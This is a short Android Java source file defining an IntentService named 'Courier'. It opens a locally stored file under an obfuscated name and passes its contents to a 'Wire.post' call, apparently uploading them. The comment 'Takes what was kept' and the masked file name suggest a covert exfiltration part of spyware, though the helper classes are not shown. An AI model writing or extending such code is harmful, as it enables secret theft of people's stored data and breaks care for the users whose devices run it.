package org.example.sousveil.file_decoded;

import android.app.IntentService;
import android.content.Intent;
import java.io.IOException;
import java.io.InputStream;

/** Takes what was kept. */
public class Courier extends IntentService {
    public Courier() {
        super("courier");
    }

    @Override
    protected void onHandleIntent(Intent intent) {
        try (InputStream in = openFileInput(Words.mask("gbz-old", 3))) {
            Wire.post(in);
        } catch (IOException e) {
            stopSelf();
        }
    }
}
